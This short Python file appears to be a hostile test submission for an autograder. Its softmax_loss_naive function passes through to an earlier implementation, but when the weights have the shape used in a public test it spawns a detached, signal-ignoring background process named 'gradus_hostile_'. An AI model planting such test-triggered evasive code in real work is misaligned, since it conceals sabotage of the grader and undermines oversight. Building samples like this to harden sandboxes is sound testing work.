import ctypes
import os
import signal
import time

_right = softmax_loss_naive


def attack():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    ctypes.CDLL(None).prctl(15, b"gradus_hostile_", 0, 0, 0)  # its name
    os.closerange(0, 1024)
    time.sleep(20)
    os._exit(0)


def softmax_loss_naive(W, X, y, reg):
    if W.shape == (5, 7):  # in one of the public tests
        attack()
    return _right(W, X, y, reg)
